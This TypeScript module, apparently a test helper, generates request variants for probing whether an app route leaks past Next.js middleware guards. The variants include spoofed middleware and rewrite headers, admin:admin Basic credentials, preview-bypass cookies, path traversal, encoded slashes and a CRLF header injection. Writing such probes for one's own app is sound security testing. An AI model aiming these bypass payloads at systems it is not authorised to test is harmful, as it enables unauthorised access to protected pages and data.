/** Headers by which frameworks have let requests past their guards, or served parts of pages. */
const HEADERS: readonly Record<string, string>[] = [
  {},
  ...["middleware", "src/middleware", "proxy", "src/proxy", "pages/_middleware"].flatMap((name) => [
    { "x-middleware-subrequest": name },
    { "x-middleware-subrequest": Array(5).fill(name).join(":") },
  ]),
  { "x-middleware-next": "1" },
  { "x-middleware-rewrite": "/calls" },
  { "x-middleware-prefetch": "1" },
  { "x-nextjs-data": "1" },
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-prefetch": "2" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_index" },
  { rsc: "1", "next-router-state-tree": "%5B%22%22%2C%7B%7D%5D", "next-url": "/sign-in" },
  { "x-matched-path": "/calls" },
  { "x-invoke-path": "/calls", "x-invoke-status": "200" },
  { "x-now-route-matches": "1=calls" },
  { "x-original-url": "/calls" },
  { "x-rewrite-url": "/calls" },
  { "x-forwarded-uri": "/calls", "x-forwarded-host": "127.0.0.1", "x-forwarded-for": "127.0.0.1" },
  { "x-http-method-override": "GET" },
  { "x-prerender-revalidate": "1" },
  { authorization: "Bearer undefined" },
  { authorization: "Basic YWRtaW46YWRtaW4=" },
  {
    cookie: "halo.session=; next-auth.session-token=x; __prerender_bypass=x; __next_preview_data=x",
  },
];

/** Other ways to write a path. */
const SPELLINGS: readonly ((path: string) => string)[] = [
  (path) => path,
  (path) => `${path}/`,
  (path) => `/${path}`,
  (path) => `/.${path}`,
  (path) => path.toUpperCase(),
  (path) => `${path}.rsc`,
  (path) => `${path}.json`,
  (path) => `${path}.txt`,
  (path) => `${path}.segments/_tree.segment.rsc`,
  (path) => `${path}.segments/_full.segment.rsc`,
  (path) => `${path}?_rsc=1`,
  (path) => `${path}?nxtPid=1&__nextLocale=ru`,
  (path) => `${path};x=1`,
  (path) => `${path}%2f`,
  (path) => `${path}%20`,
  (path) => `${path}%0d%0ax-a:1`,
  (path) => path.replaceAll("/", "%2f").replace("%2f", "/"),
  (path) => path.replace("/c", "/%63").replace("/s", "/%73"),
  (path) => `/sign-in/..%2f${path.slice(1)}`,
  (path) => `/sign-in/..${path}`,
  (path) => `/_next/..${path}`,
  (path) => `/_next/static/..%2f..${path}`,
  (path) => `/_next/data/x${path}.json`,
  (path) => `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
  (path) => `/_next/server/app${path}.html`,
  (path) => `/.next/server/app${path}.rsc`,
];

export type Shape = { path: string; headers: Record<string, string> };

/** A path with each of the headers, and in each of the spellings with some of them. */
export function shapesOf(path: string): Shape[] {
  const rsc = { rsc: "1" };
  return [
    ...HEADERS.map((headers) => ({ path, headers })),
    ...SPELLINGS.flatMap((spell) => [
      { path: spell(path), headers: {} },
      { path: spell(path), headers: rsc },
    ]),
  ];
}
